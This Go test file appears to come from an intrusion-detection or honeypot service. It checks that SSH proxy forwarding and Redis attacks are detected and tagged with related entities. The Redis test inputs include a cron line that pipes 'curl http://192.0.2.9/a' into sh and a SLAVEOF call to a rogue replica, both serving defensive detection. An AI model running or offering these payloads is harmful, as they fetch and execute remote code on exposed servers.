package service

import (
	"testing"

	"bartizan/internal/detect/detecttest"
	"bartizan/internal/model"
	"bartizan/internal/observe"
)

func conclude(t *testing.T, o observe.Observation) map[string][]model.Entity {
	t.Helper()
	got := map[string][]model.Entity{}
	o = detecttest.Observation(o)
	fresh(t)().Detect(&o, func(s *model.Signal) { got[s.Kind] = append([]model.Entity(nil), s.Related...) })
	return got
}

func TestForwards(t *testing.T) {
	for _, c := range []struct{ kind, target, want, also, rel string }{
		{"direct-tcpip", "mail.example:25", "proxy.ssh-tunnel", "proxy.mail", "domain:mail.example"},
		{"socks5", "[2001:db8::9]:443", "proxy.socks", "", "ip:2001:db8::/64"},
		{"http-connect", "ip.example:443", "proxy.abuse", "", "domain:ip.example"},
		{"http-absolute", "192.0.2.9", "proxy.abuse", "", "ip:192.0.2.9"},
	} {
		got := conclude(t, observe.Observation{Service: "ssh", Forward: &observe.Forward{Kind: c.kind, Target: c.target}})
		rel := got[c.want]
		if len(rel) != 1 || rel[0].String() != c.rel {
			t.Errorf("%s %s: %v", c.kind, c.target, got)
		}
		if _, ok := got["proxy.mail"]; ok != (c.also != "") {
			t.Errorf("%s %s: %v", c.kind, c.target, got)
		}
	}
}

func TestPayloadsNameTheirSource(t *testing.T) {
	got := conclude(t, observe.Observation{Service: "redis", Call: &observe.APICall{Operation: "SET", Args: []string{"x", "\n* * * * * curl http://192.0.2.9/a|sh\n"}}})
	if rel := got["file.download-url"]; len(rel) != 2 || rel[0].String() != "url:http://192.0.2.9/a" || got["persistence.redis"] == nil {
		t.Errorf("%v", got)
	}
	got = conclude(t, observe.Observation{Service: "redis", Call: &observe.APICall{Operation: "SLAVEOF", Args: []string{"192.0.2.77", "6380"}}})
	if rel := got["service.redis-module"]; len(rel) != 1 || rel[0].String() != "ip:192.0.2.77" {
		t.Errorf("%v", got)
	}
	// A URL that is only stored is no payload.
	got = conclude(t, observe.Observation{Service: "redis", Call: &observe.APICall{Operation: "SET", Args: []string{"home", "http://a.example/"}}})
	if _, ok := got["file.download-url"]; ok {
		t.Errorf("%v", got)
	}
}
